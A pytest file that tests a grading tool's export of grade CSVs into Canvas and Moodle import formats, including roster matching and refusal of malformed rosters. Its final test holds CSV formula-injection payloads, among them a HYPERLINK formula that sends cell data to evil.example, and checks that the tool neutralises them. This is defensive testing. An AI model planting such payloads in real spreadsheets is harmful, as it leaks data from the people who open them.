"""`coopkit export canvas|moodle`: grades.csv as the LMS's own import file, matched by the roster the LMS exported."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import pytest

from .test_cli import coopkit

# Canvas: Grades > Export > Export Current Gradebook View. The identity columns, then one column per
# assignment ("Name (assignment id)") and the computed score columns; the first row gives Points Possible.
CANVAS_EXPORT = (
    "Student,ID,SIS User ID,SIS Login ID,Section,coop (5501),Quiz 1 (5502),Current Score,Final Score\r\n"
    "    Points Possible,,,,,50.00,10.00,(read only),(read only)\r\n"
    '"Smith, John",123,S0123,jsmith,CS 101,,8.00,80,80\r\n'
    '"Doe, Ada",777,S0777,adoe,CS 101,,9.00,90,90\r\n'
    '"Roe, Rick",888,S0888,rroe,CS 101,,7.00,70,70\r\n'
)
# Moodle: the assignment's "Download grading worksheet" (Identifier is "Participant <id>").
MOODLE_WORKSHEET = (
    "Identifier,Full name,Email address,Status,Grade,Maximum Grade,Grade can be changed,"
    "Last modified (submission),Last modified (grade),Feedback comments\r\n"
    'Participant 4242,Jane Doe,jane@uni.example,Submitted for grading,,100.00,Yes,"Monday, 1 June 2026, 10:00 AM",-,\r\n'
    "Participant 5150,Kim Lee,klee@uni.example,Submitted for grading,,100.00,Yes,-,-,\r\n"
    "Participant 6000,Nobody Here,nobody@uni.example,No submission,,100.00,Yes,-,-,\r\n"
)


def canvas_reads(text: str) -> tuple[dict[str, str], dict[str, str]]:
    """What Canvas's gradebook importer (canvas-lms ``GradebookImporter``) takes from a CSV: ``({column: points}, {ID: {column: grade}})``.

    Its rules, as its source states them: the header starts ``Student``, ``ID``; then ``SIS Login ID`` alone, or ``SIS User ID``
    and ``SIS Login ID`` (then an optional ``Integration ID`` and ``Root Account``); the last identity column must be ``Section``,
    or the whole file is refused as "Invalid header row". A row whose first cell holds ``Points Possible`` sets the points;
    every other row is a student, found by ``ID``. Score columns (Current/Final Score ...) are not assignments.
    """
    rows = list(csv.reader(io.StringIO(text)))
    header = rows[0]
    assert len(header) > 3 and "Student" in header[0] and "ID" in header[1], f"Invalid header row: {header}"
    count = 3
    if "SIS Login ID" in header[2]:
        count += 1
    elif "SIS User ID" in header[2] and "SIS Login ID" in header[3]:
        extra = 1 if "Integration ID" in header[4] else 0
        count += 2 + extra + (1 if "Root Account" in header[4 + extra] else 0)
    assert "Section" in header[count - 1], f"Invalid header row: {header} (Section must close the identity columns)"
    assignments = [(i, name) for i, name in enumerate(header) if i >= count and not re.search(r"Current|Final|Override", name)]
    points, grades = {}, {}
    for row in rows[1:]:
        if "Points Possible" in row[0]:
            points = {name: row[i] for i, name in assignments}
        else:
            grades[row[1]] = {name: row[i].strip() for i, name in assignments}
    return points, grades


def moodle_reads(text: str) -> dict[str, tuple[str, str]]:
    """What Moodle's worksheet upload (``assignfeedback_offline_grade_importer``) takes: ``{participant number: (Grade, Last modified (grade))}``.

    It finds its columns by their English headers ``Identifier``, ``Grade`` and ``Last modified (grade)`` and refuses the file
    without any of them; the participant is the Identifier with its ``Participant `` prefix cut off.
    """
    rows = list(csv.DictReader(io.StringIO(text)))
    assert {"Identifier", "Grade", "Last modified (grade)"} <= set(rows[0]), "the upload would be refused"
    return {row["Identifier"][len("Participant "):]: (row["Grade"], row["Last modified (grade)"]) for row in rows}


def fake_report(name: str, score: int, max_score: int = 25) -> dict:
    return {"submission": name, "score": score, "max_score": max_score, "part": 1, "seed": 1, "isolation": "bubblewrap",
            "status": "graded", "message": "", "exercises": {}}


@pytest.fixture
def grades(tmp_path) -> Path:
    """A grade-class output folder: Canvas-named, Moodle-named, login- and email-named students, and a stranger."""
    out = tmp_path / "grades"
    out.mkdir()
    for name, score in [("smithjohn_123", 22), ("doeada_777", 25), ("Jane Doe_4242", 20), ("klee", 25), ("stranger", 11)]:
        (out / f"{name.replace(' ', '_')}.json").write_text(json.dumps(fake_report(name, score)))
    (out / "grades.csv").write_text("student\n")
    return out


def roster(tmp_path, text: str, name: str) -> Path:
    path = tmp_path / name
    path.write_bytes(b"\xef\xbb\xbf" + text.encode())  # LMS exports often start with a BOM
    return path


def test_canvas_import_has_canvas_columns_and_points_row(grades, tmp_path):
    out = tmp_path / "canvas.csv"
    result = coopkit("export", "canvas", grades, "--roster", roster(tmp_path, CANVAS_EXPORT, "gradebook.csv"), "--out", out)
    assert result.returncode == 0, result.stderr
    rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8"))))
    assert rows[0] == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "coop (5501)"]
    assert rows[1] == ["    Points Possible", "", "", "", "", "50"]
    # scaled to the assignment's 50 points: 22/25 -> 44, 25/25 -> 50; a roster student without a row stays blank
    assert rows[2:] == [["Smith, John", "123", "S0123", "jsmith", "CS 101", "44"], ["Doe, Ada", "777", "S0777", "adoe", "CS 101", "50"],
                        ["Roe, Rick", "888", "S0888", "rroe", "CS 101", ""]]
    lines = result.stderr.strip().splitlines()
    assert sorted(line.split(" ")[1] for line in lines) == ["Jane", "Roe,", "klee", "stranger"]
    assert any("stranger (11/25) matches no roster row" in line for line in lines)
    assert "2 of 5" in result.stdout
    points, grades = canvas_reads(out.read_text(encoding="utf-8"))
    assert points == {"coop (5501)": "50"} and grades == {"123": {"coop (5501)": "44"}, "777": {"coop (5501)": "50"}, "888": {"coop (5501)": ""}}


@pytest.mark.parametrize("columns", [
    "Student,ID,Section",
    "Student,ID,SIS Login ID,Section",
    "Student,ID,SIS User ID,SIS Login ID,Section",
    "Student,ID,SIS User ID,SIS Login ID,Integration ID,Section",
    "Student,ID,SIS User ID,SIS Login ID,Integration ID,Root Account,Section",
    "Student,ID,Section,SIS User ID",          # an edited export: Canvas would refuse these two orders as they are
    "Student,ID,Integration ID,SIS Login ID,Section",
])
def test_canvas_identity_columns_come_in_the_order_canvas_reads(grades, tmp_path, columns):
    names = columns.split(",")
    values = {"Student": '"Doe, Ada"', "ID": "777", "SIS User ID": "S0777", "SIS Login ID": "adoe", "Integration ID": "i777",
              "Root Account": "uni.example", "Section": "CS 101"}
    text = f"{columns},coop (5501)\r\n" + ",".join(values[name] for name in names) + ",\r\n"
    out = tmp_path / "canvas.csv"
    result = coopkit("export", "canvas", grades, "--roster", roster(tmp_path, text, "gradebook.csv"), "--out", out)
    assert result.returncode == 0, result.stderr
    points, grades_read = canvas_reads(out.read_text(encoding="utf-8"))
    assert points == {"coop (5501)": "25"} and grades_read == {"777": {"coop (5501)": "25"}}


def test_canvas_new_assignment_column_and_login_match(grades, tmp_path):
    text = CANVAS_EXPORT.replace("rroe", "klee")
    result = coopkit("export", "canvas", grades, "--roster", roster(tmp_path, text, "gradebook.csv"), "--assignment", "Homework 1")
    assert result.returncode == 0, result.stderr
    rows = list(csv.DictReader(io.StringIO((grades / "canvas.csv").read_text(encoding="utf-8"))))
    assert list(rows[0]) == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "Homework 1"]
    assert rows[0]["Homework 1"] == "25"  # points possible: the kit's own when the column is new
    by_id = {row["ID"]: row["Homework 1"] for row in rows[1:]}
    assert by_id == {"123": "22", "777": "25", "888": "25"}  # the klee folder matches Roe's SIS Login ID


def test_two_reports_naming_one_roster_row_refuse_the_export(grades, tmp_path):
    """smithjohn_123 names Canvas ID 123 and the klee folder its SIS Login ID: which one is the student's is not guessed."""
    text = CANVAS_EXPORT.replace("jsmith", "klee")
    result = coopkit("export", "canvas", grades, "--roster", roster(tmp_path, text, "gradebook.csv"), "--assignment", "Homework 1")
    assert result.returncode == 2 and len(result.stderr.strip().splitlines()) == 1
    assert "smithjohn_123 (22/25) names the same roster row as klee" in result.stderr
    assert not (grades / "canvas.csv").exists()


def test_the_roster_is_never_overwritten(grades, tmp_path):
    path = roster(tmp_path, MOODLE_WORKSHEET, "worksheet.csv")
    before = path.read_bytes()
    result = coopkit("export", "moodle", grades, "--roster", path, "--out", path)
    assert result.returncode == 2 and "is the roster" in result.stderr and path.read_bytes() == before


def test_moodle_worksheet_keeps_every_column_and_fills_grade(grades, tmp_path):
    out = tmp_path / "moodle.csv"
    result = coopkit("export", "moodle", grades, "--roster", roster(tmp_path, MOODLE_WORKSHEET, "worksheet.csv"), "--out", out)
    assert result.returncode == 0, result.stderr
    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"))))
    original = list(csv.DictReader(io.StringIO(MOODLE_WORKSHEET)))
    assert list(rows[0]) == list(original[0])
    assert [row["Grade"] for row in rows] == ["80.00", "100.00", ""]  # scaled to Maximum Grade 100; no row: unchanged
    for got, was in zip(rows, original):
        assert {k: v for k, v in got.items() if k != "Grade"} == {k: v for k, v in was.items() if k != "Grade"}
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 4  # smithjohn_123, doeada_777, stranger: no row; Nobody Here: no grade
    assert any("Nobody Here (Participant 6000) has no grade-class row" in line for line in lines)
    assert moodle_reads(out.read_text(encoding="utf-8")) == {"4242": ("80.00", "-"), "5150": ("100.00", "-"), "6000": ("", "-")}


def test_moodle_feedback_and_dates_go_back_exactly_as_downloaded(grades, tmp_path):
    """Moodle's upload imports the feedback columns too, and skips grades changed since the download's date: both stay byte for byte."""
    text = MOODLE_WORKSHEET.replace("-,\r\nParticipant 5150", '"Monday, 1 June 2026, 11:00 AM",=see office hours\r\nParticipant 5150')
    out = tmp_path / "moodle.csv"
    result = coopkit("export", "moodle", grades, "--roster", roster(tmp_path, text, "worksheet.csv"), "--out", out)
    assert result.returncode == 0, result.stderr
    row = next(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"))))
    assert (row["Feedback comments"], row["Last modified (grade)"], row["Grade"]) == ("=see office hours", "Monday, 1 June 2026, 11:00 AM", "80.00")


def test_a_moodle_worksheet_graded_on_a_scale_is_refused_in_one_line(grades, tmp_path):
    text = MOODLE_WORKSHEET.replace("100.00", "Competent", 1)
    result = coopkit("export", "moodle", grades, "--roster", roster(tmp_path, text, "w.csv"), "--out", tmp_path / "m.csv")
    assert result.returncode == 2 and len(result.stderr.strip().splitlines()) == 1
    assert "no number for Maximum Grade ('Competent' for Participant 4242)" in result.stderr and "Grade type: Point" in result.stderr


@pytest.mark.parametrize("platform, text, words", [
    ("canvas", "Name,Score\nx,1\n", "no Student, ID, Section column"),
    ("moodle", "Full name,Grade\nx,1\n", "no Identifier, Last modified (grade), Maximum Grade column"),
])
def test_a_roster_of_the_wrong_kind_is_one_line(grades, tmp_path, platform, text, words):
    result = coopkit("export", platform, grades, "--roster", roster(tmp_path, text, "r.csv"))
    assert result.returncode == 2 and words in result.stderr and len(result.stderr.strip().splitlines()) == 1
    assert "Download" in result.stderr or "Export" in result.stderr


def test_a_name_not_in_the_lms_naming_never_matches_by_its_last_part(tmp_path):
    """F1: "alice_111_222_bob_999" is no Canvas name: its "999" never puts Alice's grade on Bob's row."""
    out = tmp_path / "grades"
    out.mkdir()
    (out / "a.json").write_text(json.dumps(fake_report("alice_111_222_bob_999", 25)))
    (out / "grades.csv").write_text("student\n")
    result = coopkit("export", "canvas", out, "--roster", roster(tmp_path, CANVAS_EXPORT.replace("777", "999"), "g.csv"), "--out", tmp_path / "c.csv")
    assert result.returncode == 0, result.stderr
    assert all(row["coop (5501)"] == "" for row in csv.DictReader((tmp_path / "c.csv").open(encoding="utf-8")) if row["ID"])
    assert "alice_111_222_bob_999 (25/25) matches no roster row" in result.stderr


def test_lms_exports_neutralise_formulas_in_roster_cells(grades, tmp_path):
    """F8: cells other than identifiers and the grade cannot start a formula; identifiers and dates stay as they are."""
    text = MOODLE_WORKSHEET.replace("Jane Doe", '"=HYPERLINK(""https://evil.example/?""&A1,""Jane"")"').replace("Kim Lee", "@SUM(1+1)")
    out = tmp_path / "moodle.csv"
    result = coopkit("export", "moodle", grades, "--roster", roster(tmp_path, text, "w.csv"), "--out", out)
    assert result.returncode == 0, result.stderr
    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"))))
    assert [row["Full name"][:2] for row in rows[:2]] == ["'=", "'@"]
    assert rows[0]["Identifier"] == "Participant 4242" and rows[0]["Grade"] == "80.00" and rows[0]["Last modified (grade)"] == "-"
    canvas = coopkit("export", "canvas", grades, "--roster", roster(tmp_path, CANVAS_EXPORT.replace('"Smith, John"', "=cmd()").replace("CS 101", "+S1"), "g.csv"),
                     "--out", tmp_path / "c.csv")
    assert canvas.returncode == 0, canvas.stderr
    rows = list(csv.DictReader((tmp_path / "c.csv").open(encoding="utf-8")))
    assert (rows[1]["Student"], rows[1]["Section"], rows[1]["ID"]) == ("'=cmd()", "'+S1", "123")
